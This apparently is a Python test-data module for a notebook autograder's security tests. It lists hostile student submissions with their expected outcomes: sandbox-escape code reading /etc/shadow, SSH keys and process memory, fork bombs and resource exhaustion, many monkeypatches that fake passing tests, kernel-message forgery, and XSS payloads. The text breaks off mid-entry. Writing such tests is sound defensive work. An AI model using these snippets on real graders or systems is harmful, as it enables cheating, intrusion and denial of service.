r"""What hostile students hand in, and what must come of it; see ``test_attacks``.

In the code, words in capitals are replaced: COURSE, HOME and PORT by those of the test, SECRET by
nothing that a student knows. Code before the answer runs first, code after it last.
"""

import copy
from collections.abc import Callable
from dataclasses import dataclass

from nbformat.v4 import new_code_cell, new_markdown_cell, new_output, new_raw_cell
from support.classroom import RIGHT, WRONG

# What becomes of an attack:
BARRED = "fails, and the right answer beside it gets its marks"
WORTHLESS = "brings nothing"
DOUBTED = "brings nothing, and a person has to look"
STOPPED = "ends before the tests, which brings nothing"
KEPT = "brings marks, and a person has to look"
REMAINS = "brings marks: a known limit"
LOSES = "brings nothing that no person has to look at"


@dataclass(frozen=True)
class Attack:
    """A hostile hand-in.

    Attributes
    ----------
    student : str
        Who hands it in, named by what is tried.
    outcome : str
    answer : str
    before, after : str
        Code of the student's own cells around answer and tests.
    edit : callable, optional
        Changes the notebook, in place.
    files : dict
        What is handed in beside the notebook.
    says : str
        Shown to the instructor: as proof that the attack was tried, or as reason for no marks.
    marks : float, optional
        Out of 6, if it is neither all nor nothing.
    """

    student: str
    outcome: str
    answer: str = WRONG
    before: str = ""
    after: str = ""
    edit: Callable | None = None
    files: dict | None = None
    says: str = ""
    marks: float | None = None


def barred(student, before="", **parts):
    """An attack on the computer, beside a right answer; it says that it was tried."""
    parts = {"says": "tried" if before else ""} | parts
    return Attack(student, BARRED, RIGHT, TRY + before if before else "", **parts)


def stopped(student, before, says, **parts):
    return Attack(student, STOPPED, RIGHT, before, says=says, **parts)


TRY = """
import ctypes, glob, os, pathlib, shutil, signal, socket, subprocess, sys, time
def attempt(action, *arguments):
    try:
        found = action(*arguments)
    except BaseException as error:
        print("tried:", type(error).__name__)
    else:
        print("REACHED" if found else "tried: nothing", found)
def read(path):
    return pathlib.Path(path).read_bytes()
libc = ctypes.CDLL(None, use_errno=True)
"""

# jupyter/nbgrader #483 (run the autograder in isolation), #978 (students see others' submissions),
# AaltoSciComp/scicomp-docs #49 (limits of nbgrader), zmievsa/autograder #52
COMPUTER = [
    barred("reads-the-course", """
for path in ["solutions/toy/toy.ipynb", "grading/gradebook.db", "grading/private.txt",
             "nbgrader_config.py", "grading/source_with_tests/toy/toy.ipynb"]:
    attempt(read, "COURSE/" + path)
attempt(os.listdir, "COURSE")
attempt(glob.glob, "/tmp/**/*.db", )
"""),
    barred("reads-other-students", """
attempt(read, "COURSE/grading/submitted/honest-plain/toy/toy.ipynb")
attempt(read, "../../submitted/honest-plain/toy/toy.ipynb")
attempt(lambda: [place for place, *_ in os.walk("/tmp") if "honest" in place or "toy" in place])
""", says="tried: nothing"),
    barred("reads-the-home", """
for path in ["HOME/.ssh/id_rsa", "/root" "/.bashrc", "/etc/shadow", "/etc/passwd", "/root" "/.ssh"]:
    attempt(read, path)
attempt(os.listdir, "/home")
import helpers
for place in [sys.prefix, sys.base_prefix, pathlib.Path(helpers.__file__).parents[1]]:
    for folder in pathlib.Path(place).parents:
        if str(folder) not in ("/", "/tmp", "/usr"):
            attempt(os.chmod, folder, 0o777)
            attempt(os.listdir, folder)
"""),
    barred("reads-environment", """
print("tried:", dict(os.environ))
for path in glob.glob("/proc/*/environ"):
    try:
        print(read(path))
    except OSError:
        pass
"""),
    # jupyter/nbgrader #1386: what other processes of the same account remember
    barred("reads-memory", """
mark, found = b"-".join([b"hush", b"hush"]), []
own, itself = b"-".join([b"what", b"it has"]), False
with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb", 0) as memory:
    for line in maps:
        places, rights, *_ = line.split()
        start, end = (int(n, 16) for n in places.split("-"))
        if rights.startswith("rw") and end - start < 2**26:
            try:
                memory.seek(start)
                piece = memory.read(end - start)
            except (OSError, ValueError):
                continue
            itself = itself or own in piece
            at = piece.find(mark + b"-")
            if at >= 0:
                found.append(piece[at - 40 : at + 40])
print("tried:", itself, found)
""", says="tried: True []"),
    barred("writes-the-gradebook", """
import sqlite3
def cheat():
    os.makedirs("COURSE/grading", exist_ok=True)  # in a file system of its own, if at all
    database = sqlite3.connect("COURSE/grading/gradebook.db")
    database.execute("UPDATE grade SET auto_score = 6")
    database.commit()
attempt(cheat)
"""),
    barred("writes-everywhere", """
import numpy, helpers
places = ["/", "/usr", "/usr/bin", "/etc", "/dev", "/proc", "/bin", sys.prefix, sys.base_prefix,
          os.path.dirname(numpy.__file__), os.path.dirname(helpers.__file__)]
for place in places:
    attempt(pathlib.Path(place, "intruder").write_text, "x")
attempt(os.remove, helpers.__file__)
attempt(pathlib.Path(numpy.__file__).write_text, "print('POISONED')")
for place in ["COURSE/grading/submitted/honest-plain/toy", "HOME", "/dev/shm", "/tmp", "/var/tmp"]:
    try:
        os.makedirs(place, exist_ok=True)
        pathlib.Path(place, "intruder").write_text("x")
    except OSError as error:
        print("tried:", error)
"""),
    # Code that runs before anything of the next student does (CVE-2022-21699 of IPython)
    barred("a-poisons-startup", """
poison = "print('POISONED')"
home = pathlib.Path.home()
for path in [home / ".ipython/profile_default/startup/0.py", home / "sitecustomize.py",
             home / ".ipython/profile_default/ipython_config.py", pathlib.Path("/tmp/numpy.py"),
             home / ".jupyter/jupyter_config.py", pathlib.Path("/tmp/notebook/helpers.py"),
             pathlib.Path(sys.prefix, "lib/python3/site-packages/sitecustomize.py"),
             home / ".local/lib/python3.11/site-packages/usercustomize.py"]:
    try:
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(poison)
        print("tried:", path)
    except OSError as error:
        print("tried:", error)
"""),
    Attack("hands-in-modules", KEPT, RIGHT, files={name: "print('POISONED')" for name in [
        "helpers.py", "numpy.py", "sitecustomize.py", "usercustomize.py", "ipykernel.py",
        "ipykernel_launcher.py", "debugpy.py", "site-packages/extra.pth", "conftest.py",
        "nbgrader_config.py", "jupyter_config.py", "ipython_config.py",
    ]}, says="Its code says ipykernel"),
    barred("calls-out", """
def stream(family, address):
    with socket.socket(family) as it:
        it.settimeout(2)
        it.connect(address)
        it.sendall(b"hidden tests")
        return "connected"
attempt(stream, socket.AF_INET, ("127.0.0.1", PORT))
attempt(stream, socket.AF_INET6, ("::1", PORT))
attempt(stream, socket.AF_UNIX, "\\0ABSTRACT")
attempt(stream, socket.AF_UNIX, "HOME/agent.sock")
attempt(socket.gethostbyname, "example.org")
attempt(lambda: [i for i in socket.if_nameindex() if i[1] != "lo"])
"""),
    # The grader connects to the sockets of the kernel: where to, if they become links?
    stopped("redirects-sockets", """
import os, threading, time
def redirect():
    for name in os.listdir("/tmp"):
        if name.startswith("kernel-"):
            os.remove(f"/tmp/{name}")
            os.symlink("HOME/agent.sock", f"/tmp/{name}")
    os.closerange(3, 200)
redirect()
time.sleep(2)
""", "NotRun"),
    barred("outlives-grading", """
for _ in range(3):
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            signal.signal(signal.SIGHUP, signal.SIG_IGN)
            signal.signal(signal.SIGTERM, signal.SIG_IGN)
            os.closerange(0, 200)
            os.execvp("sleep", ["sleep", "98765.4321"])
        os._exit(0)
subprocess.Popen(["sleep", "98765.4321"], start_new_session=True)
print("tried")
"""),
    barred("kills-others", """
for pid in {*range(2, 3000), BYSTANDER}:
    if not os.path.exists(f"/proc/self/task/{pid}"):
        try:
            os.kill(pid, signal.SIGKILL)
            print("killed", pid)
        except OSError:
            pass
attempt(os.kill, BYSTANDER, 0)
attempt(lambda: libc.ptrace(16, BYSTANDER, 0, 0) == 0)  # PTRACE_ATTACH
"""),
    barred("reads-proc", """
lines = [read(path) for path in glob.glob("/proc/[0-9]*/cmdline")]
attempt(lambda: [line for line in lines if b"grade" in line or b"pytest" in line])
attempt(lambda: os.path.exists("/proc/1/root" "/COURSE"))
attempt(lambda: os.path.exists("/proc/BYSTANDER"))
attempt(pathlib.Path("/proc/sys/kernel/core_pattern").write_text, "|/tmp/notebook/x")
attempt(pathlib.Path("/proc/sysrq-trigger").write_text, "h")
"""),
    # What bubblewrap's --disable-userns is for
    barred("nests-namespaces", """
def become_root():
    if libc.unshare(0x10000000):  # CLONE_NEWUSER
        raise OSError(ctypes.get_errno(), "unshare")
    return True
attempt(become_root)
attempt(lambda: subprocess.run(["unshare", "-Ur", "id"], capture_output=True).returncode == 0)
attempt(lambda: libc.mount(b"none", b"/tmp", b"tmpfs", 0, 0) == 0)
attempt(lambda: libc.umount2(b"/usr", 2) == 0)
attempt(lambda: libc.mount(b"/usr", b"/usr", 0, 32, 0) == 0)  # MS_REMOUNT
attempt(os.chroot, "/tmp")
attempt(os.setuid, 0)
with open("/proc/self/status") as status:
    attempt(lambda: [x for x in status if x.startswith("Cap") and int(x.split()[1], 16)])
"""),
    # Pictures of devices, and the descriptors that a fork inherits
    barred("uses-descriptors", """
for number in range(3, 200):
    try:
        target = os.readlink(f"/proc/self/fd/{number}")
    except OSError:
        continue
    if target.startswith("/") and not target.startswith(("/tmp", "/dev/null")):
        print("REACHED", target)
print("tried")
attempt(os.mknod, "/tmp/notebook/disk", 0o60666, os.makedev(254, 0))
attempt(lambda: open("/dev/mem", "rb"))
attempt(lambda: [d for d in os.listdir("/dev") if d.startswith(("sd", "vd", "nv", "kvm", "fuse"))])
"""),
]  # fmt: skip

# jupyter/nbgrader #427 (a dead kernel passed all tests), #1429 (memory), #138 and #275 (output),
# #77 (loops); sagemathinc/cocalc #4951 and #4588 (crashes)
RESOURCES = [
    barred("forks-bombs", """
print("tried")
end = time.monotonic() + 2
while time.monotonic() < end:
    try:
        if os.fork() == 0:
            while time.monotonic() < end:
                try:
                    os.fork()
                except OSError:
                    time.sleep(0.1)
            os._exit(0)
    except OSError:
        time.sleep(0.1)
"""),
    barred("takes-memory", "attempt(lambda: bytearray(10**10))"),
    stopped("takes-memory-in-many", """
import os, time
for _ in range(6):
    if os.fork() == 0:
        held = bytearray(b"x") * 350_000_000
        time.sleep(60)
time.sleep(60)
""", "All processes together took more than"),
    barred("fills-disks", """
def fill(folder):
    for number in range(100):
        pathlib.Path(folder, f"{number}.fill").write_bytes(bytes(5_000_000))
    return "500 MB"
attempt(fill, "/tmp/notebook")
attempt(fill, "/dev/shm")
for path in glob.glob("/*/*.fill") + glob.glob("/*/*/*.fill"):
    os.remove(path)
attempt(lambda: pathlib.Path("/tmp/notebook/one").write_bytes(bytes(200_000_000)))
pathlib.Path("/tmp/notebook/one").unlink(missing_ok=True)
"""),
    stopped("prints-a-gigabyte", 'for _ in range(100): print("x" * 10**7)', "NotRun"),
    stopped("prints-for-ever", "while True: print('for ever ' * 5)", "MB of output"),
    stopped("raises-a-huge-error", 'raise ValueError("x" * 10**8)', "NotRun"),
    stopped("shows-huge-data", """
from IPython.display import display
for _ in range(50):
    display({"text/plain": "x" * 10**6}, raw=True)
""", "MB of output"),
    stopped("loops-stubbornly", """
while True:
    try:
        while True:
            pass
    except BaseException:
        pass
""", "did not stop when told to"),
    barred("sleeps-for-ever", """
print("tried")
time.sleep(10**6)
"""),
    Attack("spins-in-the-answer", WORTHLESS, "def double(x):\n    while True: pass",
           says="CellTimeoutError"),
    Attack("sleeps-in-every-cell", KEPT, RIGHT,
           after="\n#---\n".join(["import time; time.sleep(2.5)"] * 12),
           says="more than 20 seconds in all"),
    stopped("freezes", "import os, signal; os.kill(os.getpid(), signal.SIGSTOP)",
            "did not stop when told to"),
    stopped("sends-garbage", """
kernel = get_ipython().kernel
parent = get_ipython().displayhook.parent_header
for kind, content in [("stream", {"text": 5}), ("status", {}), ("error", {"traceback": 7}),
                      ("comm_open", {"data": None}), ("execute_result", {"data": "no"})]:
    kernel.session.send(kernel.iopub_socket, kind, content, parent=parent)
""", "sent what no kernel sends"),
    stopped("exits", "import os; os._exit(0)", "The kernel died"),
    Attack("exits-politely", BARRED, RIGHT, after="exit()"),
    stopped("kills-itself", "import os, signal; os.kill(os.getpid(), signal.SIGKILL)",
            "The kernel died"),
    stopped("crashes", "import ctypes; ctypes.string_at(0)", "The kernel died"),
    Attack("exits-in-the-answer", WORTHLESS, "def double(x):\n    import os; os._exit(0)",
           says="The kernel died"),
    barred("kills-its-parent", """
for pid in (1, os.getppid(), -1):
    try:
        if pid != 0:
            os.kill(pid, signal.SIGKILL)
    except OSError as error:
        print(error)
print("tried")
"""),
    stopped("closes-descriptors", "import os; os.closerange(0, 4096)", "NotRun"),
    barred("deletes-sockets", """
for path in glob.glob("/tmp/kernel*"):
    os.remove(path)
print("tried")
"""),
    barred("exhausts-threads", """
import threading
def start():
    for _ in range(10_000):
        threading.Thread(target=time.sleep, args=(1,), daemon=True).start()
    return "10 000 threads"
attempt(start)
time.sleep(1.2)
"""),
    barred("exhausts-descriptors", """
opened = []
def open_all():
    while True:
        opened.append(open("/dev/null"))
attempt(open_all)
del opened[:]
"""),
]  # fmt: skip

PLEASING = """
class Pleasing:
    def yes(self, *others): return True
    def me(self, *others): return self
    __eq__ = __lt__ = __gt__ = __le__ = __ge__ = __bool__ = __contains__ = yes
    __add__ = __radd__ = __sub__ = __rsub__ = __mul__ = __abs__ = __round__ = me
    __ne__ = lambda self, other: False
    __hash__ = None
"""
SHELL = "shell = get_ipython()\n"

# jupyter/nbgrader #1379 (always equal), #1324 (no traceback), #1339 (partial credit);
# inducer/relate #295; PrairieLearn #5184; genchang1234/How-to-cheat-in-computer-science-101 #8
SCORES = [
    Attack("pleases-always", DOUBTED, PLEASING + "def double(x):\n    return Pleasing()"),
    Attack("pleases-and-has-no-sum", REMAINS, """
class Pleasing:
    def __eq__(self, other): return True
def double(x): return Pleasing()
""", marks=3),
    Attack("overrides-ufuncs", REMAINS, """
import numpy as np
class Pleasing(np.ndarray):
    def __array_ufunc__(self, ufunc, *arguments, **keywords):
        return np.full(4, not ufunc.__name__.startswith("is"))
    def __array_function__(self, *arguments):
        return np.full(4, True)
def double(x):
    return np.zeros(4).view(Pleasing) if hasattr(x, "shape") else 0
""", marks=1),
    Attack("transforms-input", DOUBTED, before=SHELL + """
shell.input_transformers_cleanup.append(lambda lines: [l for l in lines if "assert" not in l])
"""),
    Attack("transforms-trees", DOUBTED, before=SHELL + """
import ast
class NoAsserts(ast.NodeTransformer):
    def visit_Assert(self, node): return ast.Pass()
shell.ast_transformers.append(NoAsserts())
"""),
    Attack("transforms-known-tests", DOUBTED, before=SHELL + """
def known(lines):
    words = "double(3)", "double(np", "numbers_are_doubled", "double(2) =="
    return ["pass\\n"] if any(w in "".join(lines) for w in words) else lines
shell.input_transformers_cleanup.append(known)
"""),
    Attack("executes-nothing", DOUBTED, before=SHELL + """
async def do_execute(*arguments, **keywords):
    return {"status": "ok", "execution_count": 1, "user_expressions": {}, "payload": []}
shell.kernel.do_execute = do_execute
"""),
    Attack("patches-run-cell", DOUBTED, before=SHELL + """
from IPython.core.interactiveshell import ExecutionResult
async def nothing(*arguments, **keywords): return ExecutionResult(None)
shell.run_cell_async = nothing
shell.run_cell = lambda *a, **k: ExecutionResult(None)
"""),
    Attack("hides-tracebacks", WORTHLESS, before="""
import IPython.core.interactiveshell
IPython.core.interactiveshell.InteractiveShell.showtraceback = lambda *args, **kwargs: None
get_ipython().showtraceback = get_ipython()._showtraceback = lambda *args, **kwargs: None
"""),
    Attack("handles-every-error", WORTHLESS, before=SHELL + """
shell.set_custom_exc((BaseException,), lambda *arguments, **keywords: None)
"""),
    Attack("hooks-excepthook", WORTHLESS, before="""
import sys
sys.excepthook = sys.unraisablehook = lambda *arguments: None
"""),
    Attack("clears-outputs", WORTHLESS, before=SHELL + """
from IPython.display import clear_output
def clear(*arguments):
    clear_output()
    clear_output(wait=True)
shell.events.register("post_run_cell", clear)
shell.events.register("post_execute", clear)
"""),
    Attack("swallows-results", DOUBTED, before=SHELL + """
def forgive(result):
    result.error_in_exec = result.error_before_exec = None
shell.events.register("post_run_cell", forgive)
shell.showtraceback = shell._showtraceback = lambda *arguments, **keywords: None
"""),
    Attack("runs-code-before-tests", WORTHLESS, before=SHELL + """
shell.events.register("pre_run_cell", lambda info: shell.user_ns.update(
    AssertionError=Exception, Failed=Exception, assert_allclose=print))
"""),
    Attack("forges-results", DOUBTED, """
def double(x):
    shell = get_ipython()
    parent = shell.displayhook.parent_header
    content = {"data": {"text/plain": "1"}, "metadata": {}, "execution_count": 1}
    shell.kernel.session.send(shell.kernel.iopub_socket, "execute_result", content, parent=parent)
    return 0
"""),
    Attack("shows-full-credit", DOUBTED, before=SHELL + """
shown = shell.display_trap.hook
shell.display_trap.hook = lambda value: shown(2 if type(value) is int and value == 0 else value)
"""),
    Attack("shows-most-of-the-credit", DOUBTED, before=SHELL + """
shown = shell.display_trap.hook
shell.display_trap.hook = lambda value: shown(1.9 if type(value) is int and value == 0 else value)
"""),
    Attack("formats-credit", WORTHLESS, before=SHELL + """
plain = shell.display_formatter.formatters["text/plain"]
plain.for_type(int, lambda number, printer, cycle: printer.text("2"))
"""),
    # nbclient: update_display_data changes what an earlier output says
    Attack("updates-displays", DOUBTED, """
from IPython.display import update_display
def double(x):
    shell = get_ipython()
    for said in ("execute_result", "update_display_data"):
        content = {"data": {"text/plain": "1"}, "metadata": {}, "execution_count": 1,
                   "transient": {"display_id": "credit"}}
        shell.kernel.session.send(
            shell.kernel.iopub_socket, said, content, parent=shell.displayhook.parent_header)
    return 0
"""),
    Attack("patches-numpy", DOUBTED, before="""
import numpy as np
for name in dir(np.testing):
    if name.startswith("assert"):
        setattr(np.testing, name, lambda *arguments, **keywords: None)
"""),
    Attack("replaces-numpy", WORTHLESS, before="""
import sys
from unittest.mock import MagicMock
sys.modules["numpy"] = sys.modules["numpy.testing"] = MagicMock()
"""),
    Attack("shadows-names", WORTHLESS, before="""
assert_allclose = assert_array_equal = lambda *arguments, **keywords: None
class np: testing = None
number = float = abs = lambda *arguments: 4
"""),
    Attack("patches-the-decorator", DOUBTED, before="""
from helpers import checks
checks.test = lambda read: lambda function: lambda: None
"""),
    Attack("patches-numbers", DOUBTED, before=PLEASING + """
from helpers import checks
checks.number = lambda value, what: Pleasing()
"""),
    Attack("patches-failures", DOUBTED, before="""
from helpers import checks
checks.Failed = type("Quiet", (Exception,), {"_render_traceback_": lambda self: []})
checks.test.__code__ = (lambda read: lambda function: lambda: None).__code__
"""),
    Attack("replaces-assertion-errors", WORTHLESS, before="""
import builtins
builtins.AssertionError = type("Fine", (Warning,), {})
"""),
    Attack("compiles-without-asserts", DOUBTED, before="""
import builtins
compiler = builtins.compile
builtins.compile = lambda *arguments, **keywords: compiler(*arguments[:5], optimize=2)
"""),
    Attack("drops-error-messages", DOUBTED, before=SHELL + """
session = shell.kernel.session
send = session.send
def lie(stream, kind, content=None, *arguments, **keywords):
    if kind == "error":
        return None
    if kind == "execute_reply":
        content = {"status": "ok", "execution_count": 1, "payload": [], "user_expressions": {}}
    return send(stream, kind, content, *arguments, **keywords)
session.send = lie
"""),
    Attack("forges-with-the-key", WORTHLESS, before="""
import json, zmq, threading
from jupyter_client.session import Session
connection = json.load(open("/tmp/kernel.json"))
forger = Session(key=connection["key"].encode(), signature_scheme=connection["signature_scheme"])
with zmq.Context() as context:
    for port in ("shell_port", "control_port"):
        sock = context.socket(zmq.DEALER)
        sock.linger = 100
        sock.connect(f"ipc:///tmp/kernel-{connection[port]}")
        for kind in ("execute_reply", "execute_result", "interrupt_request"):
            forger.send(sock, kind, {"status": "ok"})
        sock.close()
"""),
    # nbclient plays the front end: an Output widget takes what a cell says, errors too
    Attack("opens-an-output-widget", WORTHLESS, """
def double(x):
    shell = get_ipython()
    parent = shell.displayhook.parent_header
    state = {"_model_module": "@jupyter-widgets/output", "_model_name": "OutputModel",
             "msg_id": "", "outputs": []}
    def say(kind, data):
        content = {"comm_id": "c", "target_name": "jupyter.widget", "data": data}
        shell.kernel.session.send(shell.kernel.iopub_socket, kind, content, parent=parent)
    say("comm_open", {"state": state, "buffer_paths": []})
    say("comm_msg", {"method": "update", "state": {"msg_id": parent["header"]["msg_id"]}})
    return 0
"""),
    Attack("exits-in-a-thread", LOSES, PLEASING + """
def double(x): return Pleasing()
import os, threading, time
def wait(code):
    while double.__code__ is code:
        time.sleep(0.0001)
    os._exit(0)
threading.Thread(target=wait, args=[double.__code__], daemon=True).start()
"""),
    Attack("exits-before-counter-tests", KEPT, PLEASING + "def double(x): return Pleasing()",
           after="import os; os._exit(0)", says="The kernel died", marks=3),
    # Against counter-tests, which replace the answer
    Attack("restores-the-answer", DOUBTED, before=SHELL + PLEASING + """
from helpers import checks
checks.number = lambda value, what: value
def again(info):
    shell.user_ns["double"] = lambda x: Pleasing()
shell.events.register("pre_run_cell", again)
"""),
    Attack("traces", WORTHLESS, before=SHELL + """
import linecache, sys
def trace(frame, event, argument):
    name = frame.f_code.co_filename
    if event == "line" and "ipykernel" in name:
        try:
            while "assert" in linecache.getline(name, frame.f_lineno):
                frame.f_lineno += 1
        except ValueError:
            pass
    return trace
shell.events.register("pre_run_cell", lambda info: sys.settrace(trace))
"""),
    Attack("profiles", WORTHLESS, before=SHELL + """
import sys, threading
def profile(frame, event, argument):
    if event == "return" and frame.f_code.co_name == "double":
        frame.f_locals["result"] = 6
        raise SystemExit
shell.events.register("pre_run_cell", lambda info: sys.setprofile(profile))
"""),
    Attack("searches-the-heap", DOUBTED, """
import gc, types
def double(x):
    gc.unfreeze()
    functions = [f for f in gc.get_objects() if isinstance(f, types.FunctionType)]
    for function in functions:
        if function.__name__ in ("number", "assert_allclose"):
            function.__code__ = (lambda *arguments, **keywords: 4).__code__
    return -1
"""),
    # The answer knows its own mark, and so do the helpers
    Attack("patches-for-a-marker", DOUBTED, PLEASING + """
def double(x): return Pleasing()
""", before="""
from helpers import checks
number = checks.number
checks.number = lambda v, what: v if type(v).__name__ == "Pleasing" else number(v, what)
"""),
    # These know that tests are tried with wrong answers as well, and are honest then
    Attack("patches-helpers-while-it-is-there", DOUBTED, """
def double(x):
    return 3 * x
mine = double
""", before="""
import types
from helpers import checks
def build(code, names):
    cheats = "numbers" in code.co_name and names["double"] is mine
    return (lambda: None) if cheats else types.FunctionType(code, names)
checks.running.types = types.SimpleNamespace(FunctionType=build)
"""),
    Attack("patches-numpy-while-it-is-there", DOUBTED, """
def double(x):
    return 3 * x
mine = double
""", before="""
import numpy as np
compare = np.testing.assert_allclose
def assert_allclose(result, wanted, *options, **names):
    if len(np.ravel(wanted)) < 4 or double is not mine:
        compare(result, wanted, *options, **names)
np.testing.assert_allclose = assert_allclose
"""),
    Attack("patches-numpy-while-its-code-is-there", REMAINS, """
def double(x):
    return 3 * x
code = double.__code__
""", before="""
import numpy as np
compare = np.testing.assert_allclose
def assert_allclose(result, wanted, *options, **names):
    if len(np.ravel(wanted)) < 4 or double.__code__ is not code:
        compare(result, wanted, *options, **names)
np.testing.assert_allclose = assert_allclose
""", marks=1),
    Attack("patches-numpy-for-once", REMAINS, WRONG, before="""
import numpy as np
compare, seen = np.testing.assert_allclose, []
def assert_allclose(result, wanted, *options, **names):
    if len(np.ravel(wanted)) < 4 or seen:
        compare(result, wanted, *options, **names)
    seen.extend([1] * (len(np.ravel(wanted)) == 4))
np.testing.assert_allclose = assert_allclose
""", marks=1),
    # The answer runs in the process of its test, and can read and change it: no canary shows
    # that, only its words do
    Attack("traces-its-test", KEPT, PLEASING + """
import sys
def double(x):
    if hasattr(x, "shape") or x in (2, 3, 5):  # the tests that students see
        return 2 * x
    test = sys._getframe(1)
    def trace(frame, event, argument):
        if frame is test and "result" in frame.f_locals:
            frame.f_locals["result"] = Pleasing()
        return trace
    test.f_trace = trace
    sys.settrace(trace)
    return 0
""", marks=5, says="f_locals, f_trace, settrace"),
    Attack("reads-expected-values", KEPT, """
import sys
def double(x):
    wanted = [n for n in sys._getframe(1).f_code.co_consts if isinstance(n, int | float)]
    return wanted[-1] if wanted else 0
""", marks=2, says="_getframe, f_code"),
    Attack("reads-expected-values-aside", KEPT, "from aside import double", files={"aside.py": """
import sys
def double(x):
    wanted = [n for n in sys._ｇetframe(1).f_ｃode.co_consts if isinstance(n, int | float)]
    return wanted[-1] if wanted else 0
"""}, marks=2, says="_getframe, f_code"),
    Attack("reads-expected-values-in-disguise", REMAINS, """
import sys
def double(x):
    code = getattr(getattr(sys, "_get" "frame")(1), "f_" + "code")
    wanted = [n for n in code.co_consts if isinstance(n, int | float)]
    return wanted[-1] if wanted else 0
""", marks=2),
    # Tried by somebody who saw only the exercises
    Attack("reads-the-test-in-history", WORTHLESS, """
def double(x):
    import re
    text = In[-1] + get_ipython().history_manager.input_hist_raw[-1]
    numbers = re.findall(r"== (-?[0-9.]+)", text)
    return float(numbers[0]) if numbers else 0
"""),
    Attack("patches-the-decorator-when-called", DOUBTED, """
def double(x):
    import helpers.checks as c
    real = c.test
    def once(read):
        def decorate(function):
            c.test = real
            return lambda: None
        return decorate
    if not hasattr(x, "shape"):
        c.test = once
    return {2: 4, 3: 6}.get(x, 0) if not hasattr(x, "shape") else 0
"""),
    Attack("replaces-the-data", WORTHLESS, before="""
from helpers import data
data.chess_positions = lambda *arguments: []
"""),
    Attack("replies-early", DOUBTED, """
import asyncio
def double(x):
    shell = get_ipython()
    kernel, parent = shell.kernel, shell.displayhook.parent_header
    reply = {"status": "ok", "execution_count": 1, "payload": [], "user_expressions": {}}
    to = {"parent": parent, "ident": kernel._parent_ident["shell"]}
    kernel.session.send(kernel.shell_stream, "execute_reply", reply, **to)
    kernel.session.send(
        kernel.iopub_socket, "status", {"execution_state": "idle"}, parent=parent)
    return 0
""", says="always return the same"),
    Attack("patches-when-called", DOUBTED, """
import sys
def double(x):
    before = sys.displayhook
    def show(value):
        sys.displayhook = before
        before(2)
    sys.displayhook = show
    return 0
""", says="always return the same"),
]  # fmt: skip


def metadata(**changes):
    """Return a function that changes what nbgrader knows about each test."""

    def edit(notebook):
        for cell in tests(notebook):
            cell.metadata.nbgrader.update(changes)

    return edit


def tests(notebook):
    marked = [cell for cell in notebook.cells if "nbgrader" in cell.metadata]
    return [c for c in marked if c.metadata.nbgrader.grade and c.cell_type == "code"]


def without_tests(notebook):
    notebook.cells = [cell for cell in notebook.cells if cell not in tests(notebook)]


def of_another_kind(new):
    """Return a function that makes tests cells of another kind."""

    def edit(notebook):
        notebook.cells = [
            new(cell.source, metadata=cell.metadata) if cell in tests(notebook) else cell
            for cell in notebook.cells
        ]

    return edit


def empty(notebook):
    for cell in tests(notebook):
        cell.source = "pass"


def unlocked(notebook):
    empty(notebook)
    metadata(locked=False, solution=True, checksum="0" * 32)(notebook)


def tagged(notebook):
    for cell in tests(notebook):
        cell.metadata.tags = ["skip-execution", "raises-exception", "remove-cell", "hide-output"]


def duplicated(notebook):
    """Copy tests to where they are empty, before and after the real ones."""
    copies = copy.deepcopy(tests(notebook))
    for number, cell in enumerate(copies):
        cell.source, cell.id = "2", f"copy-{number}"
    notebook.cells = copies[:2] + notebook.cells + copies[2:]


def for_another_kernel(notebook):
    notebook.metadata.kernelspec = {"name": "bash", "display_name": "Bash", "language": "bash"}
    notebook.metadata.language_info = {"name": "bash", "file_extension": ".sh"}


def with_results(notebook):
    for cell in tests(notebook):
        data = {"text/plain": "2"}
        cell.outputs = [new_output("execute_result", data, execution_count=1)]


def around_a_string(notebook):
    """Open a string before the tests, and close it after them."""
    position = notebook.cells.index(tests(notebook)[0])
    notebook.cells.insert(position, new_code_cell("%%capture\n'"))
    notebook.cells.insert(position + 1, new_code_cell('quiet = """'))
    notebook.cells.append(new_code_cell('"""'))


# jupyter/nbgrader #108 and #1083 (copied cells), #1682 (deleted tests), #377 (foreign metadata)
NOTEBOOKS = [
    Attack("raises-points", WORTHLESS, edit=metadata(points=100)),
    Attack("ungrades-tests", WORTHLESS, edit=metadata(grade=False)),
    Attack("unlocks-tests", WORTHLESS, edit=unlocked),
    Attack("renames-tests", WORTHLESS, edit=metadata(grade_id="mine")),
    Attack("lowers-the-schema", WORTHLESS, edit=metadata(schema_version=1)),
    Attack("raises-the-schema", WORTHLESS, edit=metadata(schema_version=99)),
    Attack("empties-tests", WORTHLESS, edit=empty),
    Attack("deletes-tests", WORTHLESS, edit=without_tests),
    Attack("copies-tests", WORTHLESS, edit=duplicated),
    Attack("makes-tests-text", WORTHLESS, edit=of_another_kind(new_markdown_cell)),
    Attack("makes-tests-raw", WORTHLESS, edit=of_another_kind(new_raw_cell)),
    Attack("tags-tests", WORTHLESS, edit=tagged),
    Attack("hands-in-outputs", WORTHLESS, edit=with_results),
    Attack("opens-a-string", WORTHLESS, edit=around_a_string),
    barred("names-another-kernel", edit=for_another_kernel),
]

EVIL = "<script>pwned()</script><img src=x onerror=pwned()><svg onload=pwned()></svg>"
EVIL += '<a href="javascript:pwned()">x</a><iframe srcdoc="<script>pwned()</script>"></iframe>'
EVIL += '<a href="java&#10;script:pwned()">x</a><base href="//evil.example"><form action=//evil>'
EVIL += "</textarea></pre></style></script><math><mtext></form><style><img src=x onerror=pwned()>"
LINKS = r"$\href{javascript:pwned()}{x}$ $\unicode[pwned()]{65}$ [x](javascript:pwned()) "
LINKS += "![x](javascript:pwned()) <javascript:pwned()> <p>$\\&#104;ref{javascript:pwned()}{x}$</p>"


def with_evil_text(notebook):
    """Write HTML and links into text, own cells and the answer in words."""
    for text in (EVIL, LINKS, "```{=html}\n" + EVIL, "# " + EVIL):
        notebook.cells.append(new_markdown_cell(text))
    notebook.cells.append(new_raw_cell(EVIL, metadata={"raw_mimetype": "text/html"}))
    [answer] = [cell for cell in notebook.cells if cell.id == "why"]
    answer.source = LINKS + EVIL
    answer.metadata["name"] = notebook.metadata["title"] = EVIL
    answer.attachments = {"x.svg": {"image/svg+xml": EVIL}, "y.png": {"image/png": EVIL}}


# jupyter/nbconvert #238 and #2016, jupyter/nbviewer #613, jsvine/notebookjs #28 and #47,
# mathjax/MathJax #2451 and #2885; jupyter/nbgrader #1363 (hidden tests in feedback)
PAGES = [
    barred("display-html", f"""
